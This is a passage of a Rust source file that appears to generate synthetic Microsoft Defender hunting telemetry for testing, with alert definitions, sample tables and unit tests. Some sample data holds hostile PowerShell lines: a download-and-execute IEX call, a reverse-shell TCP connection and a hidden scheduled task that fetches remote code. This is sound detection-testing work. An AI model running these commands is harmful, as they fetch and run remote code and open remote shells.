        query: "(objectCategory=computer)",
        target: "corp.contoso.com",
        port: 389,
        weight: 4,
    },
    IdQuery {
        action: "SAMR query",
        query_type: "QueryGroup",
        protocol: "Samr",
        query: "QueryGroup",
        target: "Domain Admins",
        port: 445,
        weight: 3,
    },
    IdQuery {
        action: "LDAP query",
        query_type: "Spn",
        protocol: "Ldap",
        query: "(&(objectClass=user)(servicePrincipalName=*))",
        target: "corp.contoso.com",
        port: 389,
        weight: 1,
    },
];

/// A kind of IdentityDirectoryEvents row, with its `AdditionalFields` (dotted keys).
struct IdDirectory {
    action: &'static str,
    fields: &'static str,
    weight: u16,
}

const IDENTITY_DIRECTORY: &[IdDirectory] = &[
    IdDirectory {
        action: "Account Password changed",
        fields: r#"{"TARGET_OBJECT.USER":"{{tuser}}","ACTOR.ACCOUNT":"{{user}}","ACTOR.DEVICE":"{{HOST}}"}"#,
        weight: 30,
    },
    IdDirectory {
        action: "Group Membership changed",
        fields: r#"{"TO.GROUP":"Domain Admins","TARGET_OBJECT.GROUP":"Domain Admins","TARGET_OBJECT.USER":"{{tuser}}","ACTOR.ACCOUNT":"{{user}}"}"#,
        weight: 4,
    },
    IdDirectory {
        action: "Account Disabled changed",
        fields: r#"{"TARGET_OBJECT.USER":"{{tuser}}","ACTOR.ACCOUNT":"{{user}}","FROM Account Disabled":"False","TO Account Disabled":"True"}"#,
        weight: 6,
    },
    IdDirectory {
        action: "Account Supported Encryption Types changed",
        fields: r#"{"TARGET_OBJECT.USER":"{{tuser}}","FROM Account Supported Encryption Types":"","TO Account Supported Encryption Types":"AES128_CTS_HMAC_SHA1_96, AES256_CTS_HMAC_SHA1_96"}"#,
        weight: 3,
    },
    IdDirectory {
        action: "Directory Services replication",
        fields: r#"{"SourceComputerOperatingSystemType":"windows","FROM.DEVICE":"{{HOST}}","TO.DEVICE":"{{dc}}","ACTOR.DEVICE":""}"#,
        weight: 1,
    },
];

/// A cloud application of CloudAppEvents.
struct CloudApp {
    name: &'static str,
    id: u32,
    workload: &'static str,
    record_type: u16,
    actions: &'static [(&'static str, u16)],
    weight: u16,
    google: bool,
    files: bool,
}

const CLOUD_APPS: &[CloudApp] = &[
    CloudApp {
        name: "Microsoft Exchange Online",
        id: 20893,
        workload: "Exchange",
        record_type: 50,
        actions: &[
            ("MailItemsAccessed", 40),
            ("Send", 10),
            ("MoveToDeletedItems", 5),
            ("SoftDelete", 2),
            ("New-InboxRule", 1),
            ("Set-Mailbox", 1),
        ],
        weight: 40,
        google: false,
        files: false,
    },
    CloudApp {
        name: "Microsoft SharePoint Online",
        id: 20892,
        workload: "SharePoint",
        record_type: 6,
        actions: &[
            ("FileAccessed", 30),
            ("FileDownloaded", 10),
            ("FileModified", 10),
            ("FileUploaded", 8),
            ("SharingSet", 2),
            ("AnonymousLinkCreated", 1),
        ],
        weight: 25,
        google: false,
        files: true,
    },
    CloudApp {
        name: "Microsoft OneDrive for Business",
        id: 15600,
        workload: "OneDrive",
        record_type: 6,
        actions: &[
            ("FileSyncUploadedFull", 10),
            ("FileDownloaded", 5),
            ("FilePreviewed", 5),
            ("FileDeleted", 1),
        ],
        weight: 15,
        google: false,
        files: true,
    },
    CloudApp {
        name: "Microsoft Teams",
        id: 28375,
        workload: "MicrosoftTeams",
        record_type: 25,
        actions: &[
            ("MessagesListed", 10),
            ("ChatCreated", 3),
            ("MemberAdded", 1),
            ("TeamsSessionStarted", 5),
        ],
        weight: 10,
        google: false,
        files: false,
    },
    CloudApp {
        name: "Microsoft 365",
        id: 11161,
        workload: "AzureActiveDirectory",
        record_type: 15,
        actions: &[("UserLoggedIn", 20), ("UserLoginFailed", 3)],
        weight: 10,
        google: false,
        files: false,
    },
    CloudApp {
        name: "Google Workspace",
        id: 11770,
        workload: "",
        record_type: 0,
        actions: &[("activity", 5), ("authorize", 1)],
        weight: 2,
        google: true,
        files: false,
    },
];

const ADMIN_OPERATIONS: &[&str] = &[
    "New-InboxRule",
    "Set-Mailbox",
    "MemberAdded",
    "AnonymousLinkCreated",
];
const SHAREPOINT_SITES: &[&str] = &["Finance", "Sales", "HR", "Engineering", "Marketing"];
const USER_AGENTS: &[(Option<&str>, u16)] = &[
    (
        Some(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
        ),
        5,
    ),
    (
        Some("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18025; Pro)"),
        3,
    ),
    (Some("OneDriveMpc-Transform_Thumbnail/1.0"), 1),
    (Some("python-requests/2.32.3"), 1),
    (None, 4),
];

/// Evidence entity kinds of AlertEvidence.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Entity {
    Machine,
    User,
    File,
    Process,
    Ip,
    Url,
    MailMessage,
    Mailbox,
    CloudApplication,
}

/// `Entity` by index (`Event::spec` holds the index on AlertEvidence records).
const ENTITIES: [Entity; 9] = [
    Entity::Machine,
    Entity::User,
    Entity::File,
    Entity::Process,
    Entity::Ip,
    Entity::Url,
    Entity::MailMessage,
    Entity::Mailbox,
    Entity::CloudApplication,
];

impl Entity {
    fn name(self) -> &'static str {
        match self {
            Entity::Machine => "Machine",
            Entity::User => "User",
            Entity::File => "File",
            Entity::Process => "Process",
            Entity::Ip => "Ip",
            Entity::Url => "Url",
            Entity::MailMessage => "MailMessage",
            Entity::Mailbox => "Mailbox",
            Entity::CloudApplication => "CloudApplication",
        }
    }

    /// `AdditionalFields` of an evidence row (JSON held in a string).
    fn fields(self) -> Option<&'static str> {
        match self {
            Entity::Machine => Some(
                r#"{"Type":"host","HostName":"{{host}}","DnsDomain":"corp.contoso.com","OSFamily":"Windows","RiskScore":"Medium","HealthStatus":"Active","MachineId":"{{hex40}}"}"#,
            ),
            Entity::User => Some(
                r#"{"Type":"account","Name":"{{user}}","NTDomain":"CONTOSO","UPNSuffix":"contoso.com","Sid":"{{usersid}}"}"#,
            ),
            Entity::File => {
                Some(r#"{"Type":"file","Name":"{{file}}","DetectionStatus":"Detected"}"#)
            }
            Entity::Ip => Some(r#"{"Type":"ip","Address":"{{rip}}"}"#),
            Entity::Url => Some(r#"{"Type":"url","Url":"https://{{rhost}}/"}"#),
            Entity::Process | Entity::MailMessage | Entity::Mailbox | Entity::CloudApplication => {
                None
            }
        }
    }
}

/// An alert kind: what AlertInfo shows and which evidence AlertEvidence lists.
struct AlertSpec {
    title: &'static str,
    category: &'static str,
    severity: &'static str,
    service: &'static str,
    detection: &'static str,
    techniques: &'static str,
    /// Distinct entity kinds (one evidence row each).
    entities: &'static [Entity],
    /// Process (or file) the Process/File evidence is about.
    process: &'static str,
    family: Option<&'static str>,
    weight: u16,
}

impl AlertSpec {
    /// The two-letter prefix of `AlertId` of non-Endpoint services.
    fn id_prefix(&self) -> &'static str {
        match self.service {
            "Microsoft Defender for Office 365" => "fa",
            "Microsoft Defender for Identity" => "aa",
            "Microsoft Defender for Cloud Apps" => "ca",
            _ => "ad",
        }
    }
}

const ALERTS: &[AlertSpec] = &[
    AlertSpec {
        title: "Suspicious PowerShell command line",
        category: "Execution",
        severity: "Medium",
        service: MDE,
        detection: "EDR",
        techniques: r#"["PowerShell (T1059.001)","Obfuscated Files or Information (T1027)"]"#,
        entities: &[Entity::Machine, Entity::User, Entity::Process],
        process: "powershell.exe",
        family: None,
        weight: 12,
    },
    AlertSpec {
        title: "Malicious IP address",
        category: "InitialAccess",
        severity: "High",
        service: "AAD Identity Protection",
        detection: "AAD Identity Protection",
        techniques: "",
        entities: &[Entity::User, Entity::Ip],
        process: "",
        family: None,
        weight: 4,
    },
    AlertSpec {
        title: "'Mimikatz' credential theft tool was detected",
        category: "CredentialAccess",
        severity: "High",
        service: MDE,
        detection: "Antivirus",
        techniques: r#"["OS Credential Dumping (T1003)"]"#,
        entities: &[Entity::Machine, Entity::User, Entity::File, Entity::Process],
        process: "mk.exe",
        family: Some("Mimikatz"),
        weight: 2,
    },
    AlertSpec {
        title: "Suspicious access to LSASS service",
        category: "CredentialAccess",
        severity: "High",
        service: MDE,
        detection: "EDR",
        techniques: r#"["LSASS Memory (T1003.001)"]"#,
        entities: &[Entity::Machine, Entity::User, Entity::Process],
        process: "rundll32.exe",
        family: None,
        weight: 2,
    },
    AlertSpec {
        title: "Email messages containing malicious URL removed after delivery",
        category: "InitialAccess",
        severity: "Informational",
        service: "Microsoft Defender for Office 365",
        detection: "Microsoft Defender for Office 365",
        techniques: r#"["Phishing (T1566)"]"#,
        entities: &[Entity::MailMessage, Entity::Mailbox, Entity::Url],
        process: "",
        family: None,
        weight: 10,
    },
    AlertSpec {
        title: "Suspected DCSync attack (replication of directory services)",
        category: "CredentialAccess",
        severity: "High",
        service: "Microsoft Defender for Identity",
        detection: "Microsoft Defender for Identity",
        techniques: r#"["OS Credential Dumping (T1003)","DCSync (T1003.006)"]"#,
        entities: &[Entity::Machine, Entity::User],
        process: "",
        family: None,
        weight: 1,
    },
    AlertSpec {
        title: "Impossible travel activity",
        category: "InitialAccess",
        severity: "Medium",
        service: "Microsoft Defender for Cloud Apps",
        detection: "Microsoft Defender for Cloud Apps",
        techniques: r#"["Valid Accounts (T1078)"]"#,
        entities: &[Entity::User, Entity::Ip, Entity::CloudApplication],
        process: "",
        family: None,
        weight: 3,
    },
    AlertSpec {
        title: "Suspicious inbox manipulation rule",
        category: "DefenseEvasion",
        severity: "Medium",
        service: "Microsoft Defender for Cloud Apps",
        detection: "Microsoft Defender for Cloud Apps",
        techniques: r#"["Email Hiding Rules (T1564.008)"]"#,
        entities: &[
            Entity::User,
            Entity::Mailbox,
            Entity::CloudApplication,
            Entity::Ip,
        ],
        process: "",
        family: None,
        weight: 2,
    },
    AlertSpec {
        title: "Suspicious WMI process creation",
        category: "Execution",
        severity: "Medium",
        service: MDE,
        detection: "EDR",
        techniques: r#"["Windows Management Instrumentation (T1047)"]"#,
        entities: &[Entity::Machine, Entity::User, Entity::Process],
        process: "wmic.exe",
        family: None,
        weight: 3,
    },
    AlertSpec {
        title: "Ransomware behavior detected in the file system",
        category: "Impact",
        severity: "High",
        service: MDE,
        detection: "EDR",
        techniques: r#"["Data Encrypted for Impact (T1486)","Inhibit System Recovery (T1490)"]"#,
        entities: &[Entity::Machine, Entity::User, Entity::File, Entity::Process],
        process: "wmic.exe",
        family: Some("Ransom:Win32/LockBit"),
        weight: 1,
    },
    AlertSpec {
        title: "An active 'Wacatac' malware was blocked",
        category: "Malware",
        severity: "Informational",
        service: MDE,
        detection: "Antivirus",
        techniques: "",
        entities: &[Entity::Machine, Entity::File],
        process: "",
        family: Some("Wacatac"),
        weight: 8,
    },
    AlertSpec {
        title: "Suspicious scheduled task",
        category: "Persistence",
        severity: "Low",
        service: MDE,
        detection: "EDR",
        techniques: r#"["Scheduled Task (T1053.005)"]"#,
        entities: &[Entity::Machine, Entity::User, Entity::Process, Entity::File],
        process: "schtasks.exe",
        family: None,
        weight: 5,
    },
    AlertSpec {
        title: "Password spray attack",
        category: "CredentialAccess",
        severity: "Medium",
        service: "Microsoft Defender for Identity",
        detection: "Microsoft Defender for Identity",
        techniques: r#"["Password Spraying (T1110.003)"]"#,
        entities: &[Entity::User, Entity::Machine, Entity::Ip],
        process: "",
        family: None,
        weight: 2,
    },
    AlertSpec {
        title: "Anonymous IP address",
        category: "InitialAccess",
        severity: "Low",
        service: "AAD Identity Protection",
        detection: "AAD Identity Protection",
        techniques: "",
        entities: &[Entity::User, Entity::Ip],
        process: "",
        family: None,
        weight: 5,
    },
    AlertSpec {
        title: "Connection to a custom network indicator",
        category: "CommandAndControl",
        severity: "Medium",
        service: MDE,
        detection: "CustomTi",
        techniques: "",
        entities: &[Entity::Machine, Entity::Ip, Entity::Url, Entity::Process],
        process: "rundll32.exe",
        family: None,
        weight: 3,
    },
    AlertSpec {
        title: "[SOC][MDE] User bypass of SmartScreen warning",
        category: "SuspiciousActivity",
        severity: "Low",
        service: MDE,
        detection: "CustomDetection",
        techniques: "",
        entities: &[Entity::Machine, Entity::User, Entity::Url],
        process: "",
        family: None,
        weight: 3,
    },
];

/// A code signer of DeviceFileCertificateInfo.
struct Signer {
    company: &'static str,
    /// Microsoft: Windows components or other products.
    windows: bool,
    signer: &'static str,
    issuer: &'static str,
    crl: &'static str,
    /// Certificate creation, Unix seconds.
    created: i64,
    catalog: bool,
    microsoft: bool,
}

const SIGNERS: &[Signer] = &[
    Signer {
        company: "Microsoft Corporation",
        windows: true,
        signer: "Microsoft Windows",
        issuer: "Microsoft Windows Production PCA 2011",
        crl: r#"["http://www.microsoft.com/pkiops/crl/MicWinProPCA2011_2011-10-19.crl"]"#,
        created: 1_707_937_646,
        catalog: true,
        microsoft: true,
    },
    Signer {
        company: "Microsoft Corporation",
        windows: false,
        signer: "Microsoft Corporation",
        issuer: "Microsoft Code Signing PCA 2011",
        crl: r#"["http://www.microsoft.com/pkiops/crl/MicCodSigPCA2011_2011-07-08.crl"]"#,
        created: 1_694_109_231,
        catalog: false,
        microsoft: true,
    },
    Signer {
        company: "Google LLC",
        windows: false,
        signer: "Google LLC",
        issuer: "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1",
        crl: "[]",
        created: 1_689_120_000,
        catalog: false,
        microsoft: false,
    },
    Signer {
        company: "Sysinternals - www.sysinternals.com",
        windows: false,
        signer: "Microsoft Corporation",
        issuer: "Microsoft Code Signing PCA 2011",
        crl: "[]",
        created: 1_694_109_231,
        catalog: false,
        microsoft: true,
    },
];

const DOC_NAMES: &[(&str, u16)] = &[
    ("Q3 Budget Review", 3),
    ("Rechnung_2026-0042", 2),
    ("Meeting Notes", 3),
    ("Résumé - José García", 1),
    ("Payment_Advice", 1),
    ("Invoice_88231", 1),
    ("Roadmap 2026", 2),
];
/// Scheduled tasks: (name, command).
const TASKS: &[((&str, &str), u16)] = &[
    (
        (
            "Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
            "%systemroot%\\system32\\usoclient.exe StartScan",
        ),
        6,
    ),
    (
        (
            "Microsoft\\Office\\Office Automatic Updates 2.0",
            "C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe /frequentupdate SCHEDULEDTASK displaylevel=False",
        ),
        4,
    ),
    (
        (
            "GoogleUpdateTaskMachineUA{D2A8D4B1-5C3E-4F1A-9B7D-3E2F1A0C9D8E}",
            "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler",
        ),
        2,
    ),
    (
        (
            "Microsoft\\Windows\\Maintenance\\WinSAT",
            "%windir%\\system32\\WinSAT.exe formal -cpu",
        ),
        1,
    ),
    (
        (
            "OneDrive Standalone Update Task-S-1-5-21-1004336348-1177238915-682003330-1207",
            "C:\\Users\\Public\\OneDriveUpdater.exe",
        ),
        1,
    ),
    (
        (
            "SystemHealthCheck",
            "powershell.exe -w hidden -nop -c \"iex(irm http://185.220.101.47/h)\"",
        ),
        1,
    ),
];
const THREAT_NAMES: &[(&str, u16)] = &[
    ("Trojan:Win32/Wacatac.B!ml", 5),
    ("HackTool:Win32/Mimikatz.D", 2),
    ("Trojan:Script/Wacatac.H!ml", 2),
    ("Behavior:Win32/CobaltStrike.B", 1),
    ("PUA:Win32/Presenoker", 3),
];
const PS_CMDLETS: &[(&str, u16)] = &[
    ("Get-ChildItem", 10),
    ("Get-Process", 6),
    ("Import-Module", 8),
    ("Out-Default", 6),
    ("Get-CimInstance", 5),
    ("Invoke-WebRequest", 2),
    ("Set-ExecutionPolicy", 2),
    ("Invoke-Expression", 1),
    ("Add-MpPreference", 1),
    ("Get-ADComputer", 1),
];
const PIPE_NAMES: &[(&str, u16)] = &[
    ("lsass", 3),
    ("srvsvc", 4),
    ("wkssvc", 2),
    ("mojo.{{n5}}.{{n5}}.{{n19}}", 10),
    ("PSHost.{{n18}}.{{n4}}.DefaultAppDomain.powershell", 3),
    ("MSSE-{{n4}}-server", 1),
];
const SERVICE_NAMES: &[(&str, u16)] = &[
    ("PSEXESVC", 2),
    ("edgeupdate", 4),
    ("Sense", 2),
    ("MozillaMaintenance", 1),
    ("WinDefendUpdate", 1),
];
const SCRIPT_LINES: &[(&str, u16)] = &[
    ("$ErrorActionPreference = 'Stop'", 2),
    (
        "$logPath = Join-Path $env:ProgramData 'Contoso\\Logs\\inventory.log'",
        2,
    ),
    (
        "Get-CimInstance -ClassName Win32_Product | Select-Object Name, Version | Export-Csv -Path $csv -NoTypeInformation",
        3,
    ),
    (
        "if (-not (Test-Path $logPath)) { New-Item -ItemType File -Path $logPath -Force | Out-Null }",
        3,
    ),
    (
        "foreach ($svc in Get-Service | Where-Object { $_.StartType -eq 'Automatic' -and $_.Status -ne 'Running' }) {",
        2,
    ),
    ("    Write-Output (\"{0} is stopped\" -f $svc.Name)", 2),
    ("}", 3),
    (
        "$wc = New-Object System.Net.WebClient; $wc.Headers.Add('User-Agent','Mozilla/5.0')",
        1,
    ),
    (
        "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))",
        1,
    ),
    (
        "Invoke-RestMethod -Uri 'https://graph.microsoft.com/v1.0/me' -Headers @{ Authorization = \"Bearer $token\" }",
        2,
    ),
    ("Write-Host 'Überprüfung abgeschlossen – keine Fehler'", 1),
    ("exit 0", 1),
];
const FILLER_WORDS: &[(&str, u16)] = &[
    ("Unknown", 4),
    ("None", 2),
    ("Default", 2),
    ("Contoso", 1),
    ("Enabled", 1),
];
const PAYLOADS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')",
    "$c=New-Object Net.Sockets.TCPClient('45.142.212.61',443);$s=$c.GetStream()",
    "Start-Process -WindowStyle Hidden -FilePath \"$env:TEMP\\upd.exe\"",
];
const POSIX_FIELDS: &str = r#"{"InitiatingProcessPosixEffectiveUser":{"Sid":"{{acctsid}}","Name":"{{acct}}","DomainName":"{{host}}","LogonId":0,"PosixUserId":{{uid}},"PrimaryPosixGroup":{"Name":"staff","PosixGroupId":20}},"InitiatingProcessPosixProcessGroupId":{{n4}},"InitiatingProcessPosixSessionId":1,"InitiatingProcessCurrentWorkingDirectory":"/","ProcessPosixEffectiveGroup":{"Name":"staff","PosixGroupId":20},"ProcessPosixProcessGroupId":{{n5}},"ProcessCurrentWorkingDirectory":"/","ProcessPosixFilePermissions":["None"]}"#;

#[cfg(test)]
mod tests {
    use std::collections::{BTreeMap, HashMap, HashSet};

    use serde::Deserialize;
    use serde_json::value::RawValue;

    use super::*;
    use crate::timefmt::parse_export_time;

    /// The envelope keys the tests look at; `properties` kept as raw bytes.
    #[derive(Deserialize)]
    struct Line<'a> {
        time: &'a str,
        #[serde(rename = "tenantId")]
        tenant_id: &'a str,
        #[serde(rename = "operationName")]
        operation: &'a str,
        category: &'a str,
        #[serde(borrow)]
        properties: &'a RawValue,
    }

    fn options(out: &Path, seed: u64) -> GenerateOptions {
        GenerateOptions {
            out: out.to_path_buf(),
            size_bytes: 3 << 20,
            start: "2026-03-01T10:17:00Z".parse().unwrap(),
            hours: 3,
            seed,
            duplicate_rate: 0.05,
            ..GenerateOptions::default()
        }
    }

    fn run(opts: &GenerateOptions) -> GenerateReport {
        generate(&Catalog::embedded(), opts).unwrap()
    }

    /// Every file under `root`, by relative path, in order.
    fn read_tree(root: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
        fn walk(root: &Path, dir: &Path, files: &mut BTreeMap<PathBuf, Vec<u8>>) {
            for entry in std::fs::read_dir(dir).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    walk(root, &path, files);
                } else {
                    let bytes = std::fs::read(&path).unwrap();
                    files.insert(path.strip_prefix(root).unwrap().to_path_buf(), bytes);
                }
            }
        }
        let mut files = BTreeMap::new();
        walk(root, root, &mut files);
        files
    }

    /// The lines of a blob, each checked to end in CRLF.
    fn lines(bytes: &[u8]) -> Vec<&str> {
        let text = std::str::from_utf8(bytes).unwrap();
        assert!(text.ends_with("\r\n"), "blob does not end in CRLF");
        let lines: Vec<&str> = text[..text.len() - 2].split("\r\n").collect();
        for line in &lines {
            assert!(
                !line.contains('\n') && !line.contains('\r'),
                "bare line break in {line}"
            );
        }
        lines
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let (a, b, c) = (
            tempfile::tempdir().unwrap(),
            tempfile::tempdir().unwrap(),
            tempfile::tempdir().unwrap(),
        );
        let ra = run(&options(a.path(), 7));
        let rb = run(&options(b.path(), 7));
        let rc = run(&options(c.path(), 8));
        let (fa, fb, fc) = (
            read_tree(a.path()),
            read_tree(b.path()),
            read_tree(c.path()),
        );
        assert!(
            fa.len() >= 21 * 3,
            "one blob per table and hour: {}",
            fa.len()
        );
        assert_eq!(fa, fb);
        assert_eq!(
            serde_json::to_string(&ra).unwrap(),
            serde_json::to_string(&rb).unwrap()
        );
        assert_eq!(fa.keys().collect::<Vec<_>>(), fc.keys().collect::<Vec<_>>());
        assert_ne!(fa, fc);
        assert_ne!(ra.records, 0);
        assert_ne!(rc.records, 0);
    }

    #[test]
    fn every_line_is_an_envelope_with_every_schema_column() {
        let dir = tempfile::tempdir().unwrap();
        let opts = options(dir.path(), 1);
        let report = run(&opts);
        let catalog = Catalog::embedded();
        let window = (
            opts.start.as_second() / 3_600 * 3_600,
            opts.start.as_second() / 3_600 * 3_600 + 3 * 3_600,
        );
        let mut seen_tables = HashSet::new();
        for blob in &report.blobs {
            let bytes = std::fs::read(dir.path().join(&blob.container).join(&blob.blob)).unwrap();
            let table = catalog.table_for_container(&blob.container).unwrap();
            let schema = catalog.table(&table).unwrap();
            let hour = layout::parse_blob_path(&blob.blob).unwrap().hour;
            seen_tables.insert(table.clone());
            for line in lines(&bytes) {
                let envelope: Line =
                    serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
                assert_eq!(envelope.category, format!("AdvancedHunting-{table}"));
                assert_eq!(envelope.tenant_id, opts.tenant);
                assert_eq!(envelope.operation, "Publish");
                let time = parse_export_time(envelope.time).unwrap();
                assert_eq!(
                    envelope.time.len(),
                    "2026-03-01T10:17:00.0000000Z".len(),
                    "{}",
                    envelope.time
                );
                assert!(
                    time >= hour && time.as_second() < hour.as_second() + 3_600,
                    "time {time} outside {hour}"
                );
                let props: serde_json::Map<String, serde_json::Value> =
                    serde_json::from_str(envelope.properties.get()).unwrap();
                for col in &schema.columns {
                    assert!(
                        props.contains_key(&col.name),
                        "{table} lacks {}: {line}",
                        col.name
                    );
                }
                let ts = props["Timestamp"]
                    .as_str()
                    .and_then(parse_export_time)
                    .unwrap();
                assert!(ts <= time, "{table}: Timestamp {ts} after time {time}");
                assert!(
                    (window.0..window.1).contains(&ts.as_second()),
                    "{table}: Timestamp {ts} outside the window"
                );
            }
        }
        assert_eq!(seen_tables.len(), 21);
    }

    #[test]
    fn report_counts_are_exact_and_duplicates_are_redeliveries() {
        let dir = tempfile::tempdir().unwrap();
        let report = run(&options(dir.path(), 3));
        // (category, properties) → the `time`s it was written with, in export order.
        let mut identities: HashMap<(String, String), Vec<String>> = HashMap::new();
        let (mut lines_seen, mut bytes_seen) = (0u64, 0u64);
        for blob in &report.blobs {
            let bytes = std::fs::read(dir.path().join(&blob.container).join(&blob.blob)).unwrap();
            bytes_seen += bytes.len() as u64;
            let mut blob_lines = 0;
            for line in lines(&bytes) {
                let envelope: Line = serde_json::from_str(line).unwrap();
                let key = (
                    envelope.category.to_string(),
                    envelope.properties.get().to_string(),
                );
                identities
                    .entry(key)
                    .or_default()
                    .push(envelope.time.to_string());
                blob_lines += 1;
            }
            assert_eq!(blob_lines, blob.lines);
            assert_eq!(blob.lines, blob.records + blob.duplicates);
            lines_seen += blob_lines;
        }
        assert_eq!(lines_seen, report.lines);
        assert_eq!(bytes_seen, report.bytes);
        assert_eq!(identities.len() as u64, report.records);
        assert_eq!(report.lines - report.records, report.duplicates);
        let share = report.duplicates as f64 / report.lines as f64;
        assert!((0.02..0.08).contains(&share), "duplicate share {share}");
        for times in identities.values() {
            assert!(times.len() <= 1 + usize::from(MAX_REDELIVERIES));
            let distinct: HashSet<&String> = times.iter().collect();
            assert_eq!(
                distinct.len(),
                times.len(),
                "a re-delivery kept its time: {times:?}"
            );
        }
        assert!(identities.values().any(|t| t.len() > 1));
    }

    #[test]
    fn records_carry_the_export_quirks() {
        let dir = tempfile::tempdir().unwrap();
        let report = run(&GenerateOptions {
            size_bytes: 6 << 20,
            ..options(dir.path(), 5)
        });
        let mut text: HashMap<String, String> = HashMap::new();
        for blob in &report.blobs {
            let bytes = std::fs::read(dir.path().join(&blob.container).join(&blob.blob)).unwrap();
            text.entry(blob.table.clone())
                .or_default()
                .push_str(std::str::from_utf8(&bytes).unwrap());
        }
        let has = |table: &str, needle: &str| text[table].contains(needle);
        // Timestamp precision per table (quirks C.1).
        let digits = |table: &str| {
            let t = &text[table];
            let at = t.find("\"Timestamp\":\"").unwrap() + 13;
            let value = &t[at..at + t[at..].find('"').unwrap()];
            value.split_once('.').map_or(0, |(_, f)| f.len() - 1)
        };
        assert_eq!(digits("DeviceFileEvents"), 7);
        assert_eq!(digits("DeviceProcessEvents"), 6);
        assert_eq!(digits("CloudAppEvents"), 3);
        assert_eq!(digits("EmailEvents"), 0);
        // JSON in strings, native objects and arrays, dotted keys.
        assert!(has(
            "DeviceFileEvents",
            r#""AdditionalFields":"{\"FileType\":"#
        ));
        assert!(has("EmailEvents", r#""To":[""#));
        assert!(has("IdentityLogonEvents", r#""FROM.DEVICE":"#));
        assert!(has("CloudAppEvents", r#""RawEventData":{"#));
        assert!(
            has("EmailEvents", r#""_TimeReceivedBySvc":""#)
                && !text["EmailEvents"].contains(".0000000Z\",\"properties")
        );
        // Composite string and numeric ReportIds; numbers beyond 2^53.
        assert!(has("EmailEvents", r#""ReportId":""#));
        assert!(
            has("DeviceProcessEvents", r#""ReportId":"#)
                && !has("DeviceProcessEvents", r#""ReportId":""#)
        );
        let big = text["DeviceInfo"].split("\"ReportId\":").nth(1).unwrap();
        let number: u64 = big[..big.find(|c: char| !c.is_ascii_digit()).unwrap()]
            .parse()
            .unwrap();
        assert!(number > 1 << 53);
        // Digit-string ids, "" next to null, non-ASCII raw and escaped, envelope variants.
        assert!(has("DeviceProcessEvents", r#""ProcessUniqueId":""#));
        assert!(has("DeviceProcessEvents", r#""AppGuardContainerId":"""#));
        assert!(has("DeviceProcessEvents", r#""AppGuardContainerId":null"#));
        let all: String = text.values().map(String::as_str).collect();
        assert!(all.contains('®') && all.contains("\\u00ae"));
        assert!(all.contains("\r\n{\"Tenant\":\"DefaultTenant\",\"_TimeReceivedBySvc\""));
        assert!(all.contains("}}\r\n"), "some lines lack Tenant");
        // `Timestamp` first in about a third of the records (quirks E.4).
        let lines = all.matches("\r\n").count() as f64;
        let first = all.matches("\"properties\":{\"Timestamp\"").count() as f64;
        assert!((0.2..0.5).contains(&(first / lines)), "{first} of {lines}");
        // Values a hunter looks for.
        assert!(has("DeviceProcessEvents", "-enc ") || has("DeviceProcessEvents", "certutil"));
        assert!(has("DeviceProcessEvents", "wks-"));
    }

    #[test]
    fn table_selection_and_errors() {
        let dir = tempfile::tempdir().unwrap();
        let report = run(&GenerateOptions {
            tables: Some(vec!["deviceprocessevents".into(), "EmailEvents".into()]),
            size_bytes: 1 << 20,
            ..options(dir.path(), 2)
        });
        let tables: HashSet<&str> = report.blobs.iter().map(|b| b.table.as_str()).collect();
        assert_eq!(
            tables,
            HashSet::from(["DeviceProcessEvents", "EmailEvents"])
        );
        assert!(
            report.bytes >= 1 << 20 && report.bytes < (1 << 20) + (64 << 10),
            "{}",
            report.bytes
        );
        // A tiny export still writes something, about as much as asked.
        let tiny = tempfile::tempdir().unwrap();
        let report = run(&GenerateOptions {
            size_bytes: 2_000,
            hours: 24,
            ..options(tiny.path(), 2)
        });
        assert!(report.lines > 0 && report.bytes < 40_000, "{report:?}");
        let catalog = Catalog::embedded();
        let bad = |opts: GenerateOptions| matches!(generate(&catalog, &opts), Err(Error::Usage(_)));
        assert!(bad(GenerateOptions {
            tables: Some(vec!["NoSuchTable".into()]),
            ..options(dir.path(), 2)
        }));
        assert!(bad(GenerateOptions {
            hours: 0,
            ..options(dir.path(), 2)
        }));
        assert!(bad(GenerateOptions {
            duplicate_rate: 1.0,
            ..options(dir.path(), 2)
        }));
    }

    #[test]
    fn parses_sizes() {
        assert_eq!(parse_size("12345"), Some(12_345));
        assert_eq!(parse_size("10k"), Some(10_240));
        assert_eq!(parse_size("64MiB"), Some(64 << 20));
        assert_eq!(parse_size("500MB"), Some(500_000_000));
        assert_eq!(parse_size("1G"), Some(1 << 30));
        assert_eq!(parse_size("1GiB"), Some(1 << 30));
        assert_eq!(parse_size("1 GB"), Some(1_000_000_000));
        assert_eq!(parse_size("1.5G"), Some(3 << 29));
        assert_eq!(parse_size("2kb"), Some(2_000));
        assert_eq!(parse_size(""), None);
        assert_eq!(parse_size("MB"), None);
        assert_eq!(parse_size("12 parsecs"), None);
        assert_eq!(parse_size("-5"), None);
    }

    #[test]
    fn helpers_render_like_the_export() {
        let mut s = String::new();
        push_time(&mut s, 1_784_383_736_291_444_600, ENVELOPE_TIME);
        assert_eq!(s, "2026-07-18T14:08:56.2914446Z");
        s.clear();
        push_time(
            &mut s,
            1_784_383_736_000_000_000,
            TimeStyle {
                digits: 7,
                trim: false,
                zulu: false,
            },
        );
        assert_eq!(s, "2026-07-18T14:08:56.0000000");
        s.clear();
        push_time(&mut s, 1_784_383_736_693_370_000, TRIMMED_TIME);
        assert_eq!(s, "2026-07-18T14:08:56.69337Z");
        s.clear();
        push_escaped(&mut s, "a\"b\\c\r\n®", false);
        assert_eq!(s, "a\\\"b\\\\c\\r\\n®");
        s.clear();
